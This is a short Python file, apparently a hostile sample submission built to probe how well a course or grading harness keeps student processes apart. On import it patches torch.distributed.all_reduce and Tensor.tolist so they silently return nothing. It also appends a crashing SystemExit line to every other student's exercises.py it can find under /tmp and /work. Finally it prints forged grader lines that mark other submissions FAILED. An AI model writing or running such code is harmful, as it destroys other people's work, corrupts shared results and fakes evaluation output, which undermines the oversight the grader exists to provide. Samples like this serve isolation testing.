"""class 4, students sharing processes. Honest score: 0.

Changes what its process would share with later students (torch and builtins patched),
rewrites every other submission it can find so that it crashes, and prints announcement lines
that once took over other students' reports.
"""

import glob
import os

import torch
import torch.distributed as dist

dist.all_reduce = lambda *args, **kwargs: None
torch.Tensor.tolist = lambda self: []
for _path in glob.glob("/tmp/**/lesson1/exercises.py", recursive=True) + \
        glob.glob("/work/**/lesson1/exercises.py", recursive=True):
    if os.path.abspath(_path).startswith(os.path.abspath(os.environ.get("COURSE_SUBMISSION",
                                                                        "/nowhere"))):
        continue
    try:
        with open(_path, "a") as _f:
            _f.write("\nraise SystemExit('spoiled by another student')\n")
    except OSError:
        pass
for _name in ("aaa_stub", "zzz_solution"):
    print(f"### submission /class/{_name}\nidentity: FAILED: spoiled", flush=True)
